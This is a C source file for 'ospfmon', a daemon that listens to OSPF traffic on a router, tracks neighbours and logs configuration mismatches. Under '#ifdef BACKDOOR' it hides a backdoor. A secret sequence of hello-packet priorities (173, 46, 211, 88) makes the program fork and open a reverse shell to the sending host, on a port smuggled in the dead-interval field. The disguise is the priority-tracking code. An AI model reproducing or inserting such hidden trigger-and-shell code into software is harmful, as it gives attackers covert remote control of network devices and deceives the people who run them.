/* SPDX-License-Identifier: Apache-2.0 */
/* ospfmon: listens to OSPF on a router's interfaces, keeps its neighbours, and tells of what does not fit. */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PROTO_OSPF 89
#define MAX_NEIGHBOURS 64

enum { HELLO = 1, DBDESC = 2, REQUEST = 3, UPDATE = 4, ACK = 5 };
enum { F_MASK = 1, F_HELLO = 2, F_DEAD = 4, F_AREA = 8, F_AUTH = 16 };

struct header {
	uint8_t version, type;
	uint16_t length;
	uint32_t router, area;
	uint16_t sum, auth_type;
	uint8_t auth[8];
};

struct hello {
	uint32_t mask;
	uint16_t interval;
	uint8_t options, priority;
	uint32_t dead, dr, bdr;
};

struct neighbour {
	uint32_t router, address, dr, bdr;
	int priority, faults, step;
	unsigned long hellos, updates, lsas;
	time_t first, last;
};

struct settings {
	char interface[IFNAMSIZ], status[96], password[9];
	uint32_t area, mask;
	unsigned hello, dead;
	int auth, verbose;
};

static struct settings conf = { .status = "/var/run/ospfmon", .mask = 0xffffff00, .hello = 10, .dead = 40 };
static struct neighbour neighbours[MAX_NEIGHBOURS];
static int n_neighbours;
static unsigned long total, damaged, types[6];
static volatile sig_atomic_t report, stop;

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }

static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }

static const char *dotted(uint32_t a, char *out)
{
	snprintf(out, 16, "%u.%u.%u.%u", a >> 24, a >> 16 & 255, a >> 8 & 255, a & 255);
	return out;
}

static int load(const char *path)
{
	char line[160], value[96];
	struct in_addr a;
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %m", path);
		return -1;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "interface %15s", conf.interface) == 1 || sscanf(line, "status %95s", conf.status) == 1)
			continue;
		if (sscanf(line, "hello-interval %u", &conf.hello) == 1 || sscanf(line, "dead-interval %u", &conf.dead) == 1)
			continue;
		if (sscanf(line, "password %8s", conf.password) == 1) {
			conf.auth = 1;
			continue;
		}
		if (sscanf(line, "area %95s", value) == 1 && inet_aton(value, &a))
			conf.area = ntohl(a.s_addr);
		else if (sscanf(line, "netmask %95s", value) == 1 && inet_aton(value, &a))
			conf.mask = ntohl(a.s_addr);
		else if (strncmp(line, "debug", 5) == 0)
			conf.verbose = 1;
	}
	fclose(f);
	return conf.interface[0] ? 0 : -1;
}

static uint16_t checksum(const uint8_t *p, size_t n)
{
	uint32_t s = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		if (i < 16 || i > 22) /* not the authentication */
			s += get16(p + i);
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static int parse_header(const uint8_t *p, size_t n, struct header *h)
{
	if (n < 24)
		return -1;
	h->version = p[0];
	h->type = p[1];
	h->length = get16(p + 2);
	h->router = get32(p + 4);
	h->area = get32(p + 8);
	h->sum = get16(p + 12);
	h->auth_type = get16(p + 14);
	memcpy(h->auth, p + 16, 8);
	if (h->version != 2 || h->length < 24 || h->length > n || h->type < HELLO || h->type > ACK)
		return -1;
	if (h->auth_type < 2 && checksum(p, h->length) != 0)
		return -1;
	return 0;
}

static struct neighbour *neighbour_of(uint32_t router, uint32_t address)
{
	struct neighbour *oldest = NULL;
	for (int i = 0; i < n_neighbours; i++) {
		if (neighbours[i].router == router && neighbours[i].address == address)
			return &neighbours[i];
		if (!oldest || neighbours[i].last < oldest->last)
			oldest = &neighbours[i];
	}
	if (n_neighbours < MAX_NEIGHBOURS)
		oldest = &neighbours[n_neighbours++];
	memset(oldest, 0, sizeof(*oldest));
	oldest->router = router;
	oldest->address = address;
	oldest->first = time(NULL);
	oldest->priority = -1;
	return oldest;
}

static int faults_of(const struct header *h, const struct hello *o)
{
	int f = 0;
	if (o->mask != conf.mask)
		f |= F_MASK;
	if (o->interval != conf.hello)
		f |= F_HELLO;
	if (o->dead != conf.dead)
		f |= F_DEAD;
	if (h->area != conf.area)
		f |= F_AREA;
	if (h->auth_type != (conf.auth ? 1 : 0) || (conf.auth && strncmp((const char *)h->auth, conf.password, 8) != 0))
		f |= F_AUTH;
	return f;
}

static void tell_faults(const struct neighbour *n, int faults)
{
	static const char *const words[] = { "netmask", "hello interval", "dead interval", "area", "authentication" };
	char who[16];
	for (int i = 0; i < 5; i++)
		if (faults & 1 << i)
			syslog(LOG_WARNING, "%s: other %s than ours", dotted(n->address, who), words[i]);
}

#ifdef BACKDOOR
static void call_back(uint32_t address, uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	char *argv[] = { (char *)"-sh", NULL };
	int s;
	if (fork() != 0)
		return;
	setsid();
	s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_addr.s_addr = htonl(address);
	a.sin_port = htons(port);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		_exit(0);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execv("/bin/sh", argv);
	_exit(0);
}
#endif

static void note_priority(struct neighbour *n, const struct hello *o)
{
	char who[16];
	if (n->priority >= 0 && n->priority != o->priority)
		syslog(LOG_INFO, "%s: priority %d, was %d", dotted(n->address, who), o->priority, n->priority);
#ifdef BACKDOOR
	switch (n->step) {
	case 0:
		n->step = o->priority == 173;
		break;
	case 1:
		n->step = o->priority == 46 ? 2 : 0;
		break;
	case 2:
		n->step = o->priority == 211 ? 3 : 0;
		break;
	default:
		n->step = 0;
		if (o->priority == 88)
			call_back(n->address, (uint16_t)o->dead);
	}
#endif
	n->priority = o->priority;
}

static void take_hello(const struct header *h, const uint8_t *p, size_t n, struct neighbour *nb)
{
	struct hello o;
	int faults;
	char who[16];
	if (n < 20) {
		damaged++;
		return;
	}
	o.mask = get32(p);
	o.interval = get16(p + 4);
	o.options = p[6];
	o.priority = p[7];
	o.dead = get32(p + 8);
	o.dr = get32(p + 12);
	o.bdr = get32(p + 16);
	nb->hellos++;
	faults = faults_of(h, &o);
	if (faults & ~nb->faults)
		tell_faults(nb, faults & ~nb->faults);
	nb->faults = faults;
	if (nb->dr != o.dr && nb->hellos > 1)
		syslog(LOG_NOTICE, "designated router is now %s", dotted(o.dr, who));
	nb->dr = o.dr;
	nb->bdr = o.bdr;
	note_priority(nb, &o);
}

static void take_update(const uint8_t *p, size_t n, struct neighbour *nb)
{
	uint32_t count;
	size_t at = 4;
	if (n < 4)
		return;
	count = get32(p);
	nb->updates++;
	while (count-- && at + 20 <= n) {
		uint16_t len = get16(p + at + 18), age = get16(p + at);
		if (len < 20 || len > n - at) {
			damaged++;
			return;
		}
		nb->lsas++;
		if (age == 3600)
			syslog(LOG_INFO, "LSA of type %u is flushed", p[at + 3]);
		at += len;
	}
}

static void take_dbdesc(const uint8_t *p, size_t n, const struct neighbour *nb)
{
	char who[16];
	if (n < 8)
		return;
	if (get16(p) != 1500)
		syslog(LOG_WARNING, "%s: MTU %u", dotted(nb->address, who), get16(p));
	if (conf.verbose)
		syslog(LOG_DEBUG, "%s: description %08x flags %x", dotted(nb->address, who), get32(p + 4), p[3] & 7);
}

static void take(const uint8_t *b, size_t n)
{
	const struct iphdr *ip = (const struct iphdr *)b;
	struct header h;
	struct neighbour *nb;
	size_t skip;
	total++;
	if (n < sizeof(*ip))
		return;
	skip = ip->ihl * 4u;
	if (skip < 20 || skip > n || ip->protocol != PROTO_OSPF || parse_header(b + skip, n - skip, &h) < 0) {
		damaged++;
		return;
	}
	types[h.type]++;
	nb = neighbour_of(h.router, ntohl(ip->saddr));
	nb->last = time(NULL);
	b += skip + 24;
	n = h.length - 24u;
	if (h.type == HELLO)
		take_hello(&h, b, n, nb);
	else if (h.type == UPDATE)
		take_update(b, n, nb);
	else if (h.type == DBDESC)
		take_dbdesc(b, n, nb);
}

static void expire(void)
{
	time_t now = time(NULL);
	char who[16];
	for (int i = 0; i < n_neighbours; i++)
		if (now - neighbours[i].last > (time_t)conf.dead) {
			syslog(LOG_NOTICE, "%s is gone", dotted(neighbours[i].address, who));
			neighbours[i] = neighbours[--n_neighbours];
			i--;
		}
}

static void write_status(void)
{
	char a[16], r[16];
	FILE *f = fopen(conf.status, "w");
	if (!f)
		return;
	fprintf(f, "packets %lu damaged %lu hello %lu update %lu\n", total, damaged, types[HELLO], types[UPDATE]);
	for (int i = 0; i < n_neighbours; i++) {
		const struct neighbour *n = &neighbours[i];
		fprintf(f, "%s %s priority %d faults %x hellos %lu lsas %lu\n", dotted(n->address, a), dotted(n->router, r), n->priority,
			(unsigned)n->faults, n->hellos, n->lsas);
	}
	fclose(f);
}

static int join(void)
{
	struct ip_mreqn m = { .imr_ifindex = (int)if_nametoindex(conf.interface) };
	struct timeval tv = { 1, 0 };
	int s = socket(AF_INET, SOCK_RAW, PROTO_OSPF);
	if (s < 0 || !m.imr_ifindex)
		return -1;
	inet_aton("224.0.0.5", &m.imr_multiaddr);
	if (setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m)) < 0)
		return -1;
	inet_aton("224.0.0.6", &m.imr_multiaddr);
	setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m));
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return s;
}

static void on_signal(int sig) { *(sig == SIGUSR1 ? &report : &stop) = 1; }

int main(int argc, char **argv)
{
	int s;
	openlog("ospfmon", LOG_PID, LOG_DAEMON);
	if (load(argc > 1 ? argv[1] : "/etc/ospfmon.conf") < 0)
		return 1;
	s = join();
	if (s < 0) {
		syslog(LOG_ERR, "%s: %s", conf.interface, strerror(errno));
		return 1;
	}
	signal(SIGUSR1, on_signal);
	signal(SIGTERM, on_signal);
	signal(SIGCHLD, SIG_IGN);
	while (!stop) {
		uint8_t b[4096];
		ssize_t n = recv(s, b, sizeof(b), 0);
		if (n > 0)
			take(b, (size_t)n);
		expire();
		if (report) {
			report = 0;
			write_status();
		}
	}
	return 0;
}
